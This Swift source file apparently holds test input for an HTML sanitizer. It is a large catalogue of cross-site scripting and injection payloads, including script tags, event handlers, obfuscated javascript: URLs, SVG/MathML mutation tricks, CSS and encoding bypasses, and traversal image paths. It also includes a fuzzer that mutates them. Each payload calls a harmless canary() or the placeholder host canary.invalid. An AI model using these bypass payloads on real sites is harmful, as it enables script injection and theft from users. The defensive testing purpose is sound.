/// HTML that would run code in a browser, or send a request, if any of it came through.
///
/// Each sample calls `canary()` or loads something of the host `canary.invalid`.
package enum HostilePages {
    package static let samples: [String] =
        elements + handlers + addresses + foreign + styles + mutations + broken + encoded

    private static let elements = [
        "<script>canary()</script>", "<script src=//canary.invalid/a.js></script>",
        "<SCRIPT>canary()</SCRIPT >", "<script/x>canary()</script>",
        "<script\n>canary()</script\t>",
        "<script>canary()", "<script type=module>canary()</script>",
        "<scr<script>ipt>canary()</scr</script>ipt>",
        "<script>/*</script><script>*/canary()</script>", "<<script>canary()//<</script>",
        "<script><!--\ncanary()//--></script>", "<script defer async>canary()</script>",
        "<iframe src=javascript:canary()></iframe>",
        "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
        "<iframe srcdoc=&lt;script&gt;parent.canary()&lt;/script&gt;>",
        "<frameset onload=canary()><frame src=javascript:canary()>",
        "<object data=javascript:canary()></object>",
        "<object type=text/html data='data:text/html,<script>parent.canary()</script>'>",
        "<embed src=//canary.invalid/a.swf>", "<embed src=javascript:canary()>",
        "<applet code=canary.class></applet>",
        "<form action=javascript:canary()><input type=submit autofocus onfocus=canary()></form>",
        "<form id=f></form><button form=f formaction=javascript:canary()>b</button>",
        "<input type=image src=//canary.invalid/a onerror=canary()>",
        "<isindex action=javascript:canary() type=image>",
        "<base href='javascript:canary()//'><a href=#>a</a>",
        "<base href=//canary.invalid/><script src=a.js></script>",
        "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
        "<meta http-equiv=refresh content='0;url=//canary.invalid/'>",
        "<META HTTP-EQUIV='Refresh' CONTENT='0; URL=data:text/html,<script>canary()</script>'>",
        "<meta http-equiv=Set-Cookie content='a=canary()'>",
        "<meta http-equiv=Content-Security-Policy content='script-src *'>",
        "<link rel=stylesheet href=//canary.invalid/a.css>",
        "<link rel=import href=//canary.invalid/>",
        "<link rel=prefetch href=//canary.invalid/p>",
        "<link rel=dns-prefetch href=//canary.invalid>",
        "<link rel=manifest href=//canary.invalid/m>", "<portal src=//canary.invalid></portal>",
        "<video src=//canary.invalid/v onerror=canary() autoplay></video>",
        "<audio src=x onerror=canary()>",
        "<video><source onerror=canary()></video>", "<video poster=//canary.invalid/p></video>",
        "<track src=//canary.invalid/t default>",
        "<picture><source srcset=//canary.invalid/s><img src=x onerror=canary()></picture>",
        "<template><script>canary()</script></template>",
        "<template shadowrootmode=open><script>canary()</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=canary()>'></noscript>",
        "<dialog open onclose=canary()>d</dialog>",
        "<marquee onstart=canary()>m</marquee>",
        "<details open ontoggle=canary()><summary>s</summary>d</details>",
        "<keygen autofocus onfocus=canary()>", "<body onload=canary()>",
        "<html onclick=canary()><head onload=canary()>",
        "<slot name=x onslotchange=canary()>", "<xmp><script>canary()</script></xmp>",
        "<plaintext><script>canary()</script>",
    ]

    private static let handlers = [
        "<img src=x onerror=canary()>", "<img src=x onerror='canary()' alt='a'>",
        "<img src=x:x ONERROR=canary()>",
        "<img/src=x/onerror=canary()>", "<img src=x onerror=\"&#99;anary()\">",
        "<img src=x\nonerror\n=\ncanary()>",
        "<img src=x onerror=canary``>", "<img src='x'onerror='canary()'>",
        "<img src=x onload onerror=canary()>",
        "<image src=x onerror=canary()>", "<img src=x `onerror=canary()`>",
        "<img \"\"\"><img src=x onerror=canary()>\">",
        "<img src=\"x\" alt=\"` onerror=canary() \">",
        "<img alt='\"><script>canary()</script>' src=/documents/a.png>",
        "<img alt=\"' onerror='canary()\" src='/documents/b.png'>",
        "<img src=\"/documents/a.png' onerror='canary()\" alt=x>",
        "<img srcset='//canary.invalid/s 1x' src=/documents/c.png>",
        "<img src=/documents/d.png lowsrc=javascript:canary() dynsrc=javascript:canary()>",
        "<p onmouseover=canary() tabindex=1 autofocus onfocus=canary()>p</p>",
        "<b onanimationstart=canary() style='animation:x 1s'>b</b>",
        "<div onpointerrawupdate=canary() ontransitionend=canary() onwheel=canary()>d</div>",
        "<a href=/x onclick=canary() onfocus=canary() autofocus>a</a>",
        "<a href=/x ping=//canary.invalid/p>a</a>",
        "<a href=/x target=_blank rel=opener>a</a>", "<a id=canary name=canary href=/x>clobber</a>",
        "<p accesskey=x onclick=canary()>p",
        "<table background=javascript:canary()><td background=//canary.invalid/b>t</table>",
        "<body background=//canary.invalid/b>",
        "<p contenteditable onblur=canary() oncut=canary()>p</p>",
        "<p popover onbeforetoggle=canary()>p</p>",
    ]

    private static let addresses = [
        "<a href=javascript:canary()>a</a>", "<a href='JaVaScRiPt:canary()'>a</a>",
        "<a href=' javascript:canary()'>a</a>",
        "<a href='java\tscript:canary()'>a</a>", "<a href='java\nscript:canary()'>a</a>",
        "<a href=java&#9;script:canary()>a</a>",
        "<a href=java&Tab;script&colon;canary()>a</a>", "<a href=javascript&colon;canary()>a</a>",
        "<a href='&#1;javascript:canary()'>a</a>",
        "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;canary()>a</a>",
        "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;canary()>a</a>",
        "<a href=&#0000106avascript:canary()>a</a>",
        "<a href=vbscript:canary()>a</a>", "<a href=livescript:canary()>a</a>",
        "<a href=data:text/html,<script>canary()</script>>a</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg=='>a</a>",
        "<a href=blob:https://canary.invalid/1>a</a>",
        "<a href=filesystem:https://canary.invalid/1>a</a>",
        "<a href=view-source:javascript:canary()>a</a>", "<a href=javascript://%0acanary()>a</a>",
        "<a href=\"javascript:/*'/*`/*--></script><script>canary()//\">a</a>",
        "<a href='http://a/\" onclick=\"canary()'>a</a>",
        "<a href=\"http://a/' onmouseover='canary()\">a</a>",
        "<a href='http://a/><script>canary()</script>'>a</a>",
        "<a href='http://a/&quot;><img src=x onerror=canary()>'>a</a>",
        "<a href='mailto:a@b?subject=\"><script>canary()</script>'>a</a>",
        "<a href='//canary.invalid\\@b'>a</a>", "<a href='http://user:canary()@b/'>a</a>",
        "<a href='\\\\canary.invalid\\a'>a</a>",
        "<a href=https:javascript:canary()>a</a>", "<a href=jar:javascript:canary()!/>a</a>",
        "<a href='feed:javascript:canary()'>a</a>",
        "<a href=javascript\u{0}:canary()>a</a>", "<a href='\u{FEFF}javascript:canary()'>a</a>",
        "<a href='\u{A0}javascript:canary()'>a</a>",
        "<a href='javascript\u{3A}canary()' href='/b'>a</a>",
        "<a href='/b' href='javascript:canary()'>a</a>", "<a xlink:href=javascript:canary()>a</a>",
        "<area href=javascript:canary()>",
        "<map name=m><area href=javascript:canary() shape=default></map><img usemap=#m src=/documents/a.png>",
        "<q cite=javascript:canary()>q</q><blockquote cite=javascript:canary()>b</blockquote><del cite=javascript:canary()>d</del>",
        "<img src=javascript:canary()>", "<img src='data:image/svg+xml,<svg onload=canary()>'>",
        "<img src=//canary.invalid/i.png alt=i>",
        "<img src='@cdn_host@javascript:canary()'>", "<img src='@root_path@\" onerror=\"canary()'>",
        "<img src='/documents/../c/portal/logout'>",
        "<img src='/documents/%2e%2e/api/jsonws/canary'>", "<img src='/documents/..;/api'>",
        "<a href='@cdn_host@//canary.invalid/'>a</a>",
    ]

    private static let foreign = [
        "<svg onload=canary()>", "<svg/onload=canary()>", "<svg><script>canary()</script></svg>",
        "<svg><script href=//canary.invalid/a />",
        "<svg><a xlink:href=javascript:canary()><text>t</text></a></svg>",
        "<svg><animate onbegin=canary() attributeName=x>",
        "<svg><a><animate attributeName=href values=javascript:canary() /><text>t</text></a>",
        "<svg><set attributeName=onload to=canary()>",
        "<svg><use href='data:image/svg+xml,<svg id=x><script>canary()</script></svg>#x'>",
        "<svg><image href=//canary.invalid/i>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.canary()</script>'></foreignObject></svg>",
        "<svg><desc><img src=x onerror=canary()></desc></svg>",
        "<svg><title><style><img src=x onerror=canary()></style></title></svg>",
        "<svg><style>@import '//canary.invalid/a.css';</style></svg>",
        "<svg></p><style><a title='</style><img src=x onerror=canary()>'>",
        "<svg><![CDATA[><img src=x onerror=canary()>]]></svg>",
        "<svg><handler type=text/javascript>canary()</handler></svg>",
        "<math href=javascript:canary()>m</math>",
        "<math><maction actiontype='statusline#//canary.invalid' xlink:href=javascript:canary()>m",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=canary()&gt;'>",
        "<math><mi><style><img src=x onerror=canary()></style></mi></math>",
        "<math><annotation-xml encoding=text/html><script>canary()</script>",
        "<math><annotation-xml encoding='application/xhtml+xml'><svg><script>canary()</script>",
        "<svg xmlns:x='http://www.w3.org/1999/xlink'><a x:href=javascript:canary()>a",
        "<?xml version='1.0'?><?xml-stylesheet href='javascript:canary()'?><x/>",
        "<xml id=x><i><![CDATA[<img src=x onerror=canary()>]]></i></xml>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>canary()</x:script>",
        "<html xmlns:v=urn:schemas-microsoft-com:vml><v:frame src=javascript:canary()>",
    ]

    private static let styles = [
        "<style>@import url(//canary.invalid/a.css);</style>",
        "<style>*{background:url(javascript:canary())}</style>",
        "<style>p{-moz-binding:url(//canary.invalid/a#b)}</style><p>p</p>",
        "<style><!--</style><script>canary()//--></script>",
        "<p style='background:url(//canary.invalid/b)'>p</p>",
        "<p style=width:expression(canary())>p</p>",
        "<p style=\"behavior:url(#default#time2)\" onbegin=canary()>p</p>",
        "<p style='x:\\65xpression(canary())'>p</p>",
        "<p style=\"font-family:'</style><script>canary()</script>'\">p</p>",
        "<div style=position:fixed;inset:0;z-index:9>over</div>",
        "<style>@font-face{font-family:x;src:url(//canary.invalid/f)}*{font-family:x}</style>",
        "<p class=\"\" style=\"\" id='\"><script>canary()</script>'>",
        "</style><script>canary()</script>", "</title><script>canary()</script>",
        "</textarea><script>canary()</script>",
        "</main></body></html><script>canary()</script>", "--><script>canary()</script>",
        "]]><script>canary()</script>",
    ]

    private static let mutations = [
        "<p id='</p><img src=x onerror=canary()>'>p",
        "<listing>&lt;img src=x onerror=canary()&gt;</listing>",
        "<pre>&lt;script&gt;canary()&lt;/script&gt;</pre>",
        "<code>&lt;img src=x onerror=canary()&gt;</code>", "&lt;script&gt;canary()&lt;/script&gt;",
        "&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;",
        "<table><td>&lt;svg onload=canary()&gt;</table>",
        "<li>&#60;img src=x onerror=canary()&#62;",
        "<noembed><img title='</noembed><img src=x onerror=canary()>'></noembed>",
        "<noframes><p id='</noframes><svg onload=canary()>'></noframes>",
        "<iframe><a title='</iframe><img src=x onerror=canary()>'></iframe>",
        "<xmp><p id='</xmp><img src=x onerror=canary()>'></xmp>",
        "<textarea><a title='</textarea><img src=x onerror=canary()>'>",
        "<title><a id='</title><img src=x onerror=canary()>'>",
        "<select><style><img src=x onerror=canary()></style></select>",
        "<select><template><img src=x onerror=canary()></template></select>",
        "<table><style><img title='</style><img src=x onerror=canary()>'></table>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary()>",
        "<table><caption><svg><title><table><caption><img src=x onerror=canary()>",
        "<p><svg><p><style><a id='</style><img src=1 onerror=canary()>'>",
        "<a><table><a><img src=x onerror=canary()>",
        "<b><table><td><i><p></b><script>canary()</script>",
        "<option><p id='</option><svg onload=canary()>'>",
        "<!--><img src=x onerror=canary()>-->", "<!--!><img src=x onerror=canary()>-->",
        "<!-- --!><img src=x onerror=canary()>-->",
        "<!---><script>canary()</script>-->", "<!-- <!-- --> <img src=x onerror=canary()> -->",
        "<![CDATA[<script>canary()</script>]]>",
        "<![if IE]><script>canary()</script><![endif]>",
        "<!--[if gte IE 4]><script>canary()</script><![endif]-->",
        "<!x><img src=x onerror=canary()>",
        "<?x><img src=x onerror=canary()>?>", "<%<img src=x onerror=canary()>%>",
        "<//><img src=x onerror=canary()>", "</x/><script>canary()</script>",
        "<!DOCTYPE x [<!ENTITY y '<script>canary()</script>'>]>&y;",
        "<!DOCTYPE html SYSTEM '//canary.invalid/d'>",
    ]

    private static let broken = [
        "<img src=x onerror=canary()", "<script>canary()</script",
        "<a href=\"javascript:canary()\"", "<svg onload=canary() <p>",
        "<p <script>canary()</script>",
        "<a \"<script>canary()</script>\">", "<a <b href=javascript:canary()>",
        "<\u{0}script>canary()</script>", "<s\u{0}cript>canary()</script>",
        "<script\u{0}>canary()</script>", "\u{0}<script>canary()</script>",
        "<img src=x onerror\u{0}=canary()>", "<img\u{C}src=x\u{C}onerror=canary()>",
        "<img\u{B}src=x onerror=canary()>", "<img\u{A0}src=x onerror=canary()>",
        "<\u{FEFF}script>canary()</script>", "< script>canary()</ script>",
        "<script >canary()</script >", "<\nscript>canary()</script>", "<ſcript>canary()</ſcript>",
        "<SCR\u{130}PT>canary()</SCR\u{130}PT>",
        "＜script＞canary()＜/script＞", "<a href='x' \u{202E}onclick=canary()>a</a>",
        "<p>\u{2028}<script>canary()</script>", "'\"><script>canary()</script>",
        "\"><svg onload=canary()>", "'/><img src=x onerror=canary()>",
        "`><script>canary()</script>", "{{canary()}}", "${canary()}", "<%= canary() %>",
        "</", "<", "<>", "</>", "<a", "<a =\"", "<a b=", "&", "&#", "&#x", "&lt", "<!", "<!-",
        "<!--", "<?", "<script", "<![CDATA[",
    ]

    private static let encoded = [
        "+ADw-script+AD4-canary()+ADw-/script+AD4-",
        "<meta charset=utf-7>+ADw-script+AD4-canary()+ADw-/script+AD4-",
        "<meta charset=utf-16le><script>canary()</script>",
        "<?xml version='1.0' encoding='EBCDIC-CP-US'?><script>canary()</script>",
        "\u{FFFE}<script>canary()</script>", "%3Cscript%3Ecanary()%3C/script%3E",
        "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
        "\\x3cscript\\x3ecanary()\\x3c/script\\x3e",
        "&#x3c;script&#x3e;canary()&#x3c;/script&#x3e;", "&lt;img src=x onerror=canary()>",
        "<img src=x onerror=&#x63&#x61&#x6e&#x61&#x72&#x79&#40&#41>",
        "<a href=%6aavascript:canary()>a</a>", "<a href=javascript%3acanary()>a</a>",
        "<meta charset=iso-2022-jp><p>\u{1B}$B<script>canary()</script>\u{1B}(B",
        "¼script¾canary()¼/script¾", "&fjlig;&NotEqualTilde;&nvlt;script>canary()",
    ]
}

// MARK: - Changed and random pages

extension HostilePages {
    private static let names = [
        "a", "b", "p", "div", "table", "tr", "td", "th", "ul", "ol", "li", "dl", "dt", "dd", "pre",
        "code", "blockquote", "h1", "h4", "img",
        "br", "hr", "svg", "math", "script", "style", "form", "select", "option", "template",
        "noscript", "title", "textarea", "iframe",
        "figure", "figcaption", "caption", "thead", "tbody", "colgroup", "font", "x-y", "body",
        "head", "html", "mtext", "foreignObject",
    ]
    private static let attributes = [
        "href=javascript:canary()", "onerror=canary()", "src=x", "title='</p>'", "href=/x",
        "src='/documents/a.png'", "alt=\"'><svg onload=canary()>\"",
        "colspan=7", "rowspan=-1", "start=9", "style='x:y'", "onclick", "=", "\"", "'", "hidden",
        "href='//canary.invalid'",
    ]
    private static let pieces = [
        "<", ">", "/", "\"", "'", "`", "=", "&", ";", "#", "\0", "\t", "\n", "\u{C}", " ", "<!--",
        "-->", "<![CDATA[", "]]>", "<?", "?>", "</", "/>",
        "&lt;", "&gt;", "&quot;", "&#0;", "&#x3c", "&colon;", "&Tab;", "\u{FEFF}", "\u{202E}",
        "\u{200D}", "\u{FFFD}", "é", "javascript:", "data:,",
        "<svg>", "<math>", "<table>", "<template>", "</script>", "</style>", "onload=canary() ",
        "@cdn_host@", "@root_path@",
    ]

    /// A sample, or some of them, with a few changes.
    package static func mutation(_ dice: inout Dice) -> String {
        var letters = Array(dice.pick(samples).unicodeScalars)
        for _ in 0...dice.roll(6) {
            let place = dice.roll(letters.count + 1)
            switch dice.roll(9) {
            case 0: letters.insert(contentsOf: dice.pick(pieces).unicodeScalars, at: place)
            case 1: letters.insert(contentsOf: dice.pick(samples).unicodeScalars, at: place)
            case 2: letters.removeSubrange(place..<min(letters.count, place + 1 + dice.roll(3)))
            case 3: letters.insert(contentsOf: element(&dice).unicodeScalars, at: place)
            case 4: letters = Array("<\(dice.pick(names))>".unicodeScalars) + letters
            case 5: letters += letters[min(place, letters.count)...]
            case 6: letters = letters.map { changedCase($0, &dice) }
            case 7: letters = letters.flatMap { escaped($0, &dice) }
            default: letters += Array(dice.pick(samples).unicodeScalars)
            }
        }
        return text(letters)
    }

    /// Elements in any order.
    package static func markup(_ dice: inout Dice) -> String {
        (0...dice.roll(40)).map { _ in
            switch dice.roll(4) {
            case 0: dice.pick(["text ", "a\nb", "&amp;", "é", " ", "<!-- c -->"])
            case 1: "</\(dice.pick(names))>"
            default: element(&dice)
            }
        }.joined()
    }

    private static func element(_ dice: inout Dice) -> String {
        let chosen = (0..<dice.roll(3)).map { _ in " " + dice.pick(attributes) }
        return "<\(dice.pick(names))\(chosen.joined())>"
    }

    private static func changedCase(_ letter: Unicode.Scalar, _ dice: inout Dice) -> Unicode.Scalar
    {
        guard dice.roll(4) == 0 else { return letter }
        return String(letter).uppercased().unicodeScalars.first ?? letter
    }

    private static func escaped(_ letter: Unicode.Scalar, _ dice: inout Dice) -> [Unicode.Scalar] {
        guard letter.isASCII, dice.roll(20) == 0 else { return [letter] }
        let digits = dice.roll(2) == 0 ? "\(letter.value)" : "x" + String(letter.value, radix: 16)
        let end = dice.roll(2) == 0 ? ";" : ""
        return Array("&#\(digits)\(end)".unicodeScalars)
    }

    private static func text(_ letters: [Unicode.Scalar]) -> String {
        var view = String.UnicodeScalarView()
        view.append(contentsOf: letters.prefix(4_000))
        return String(view)
    }
}
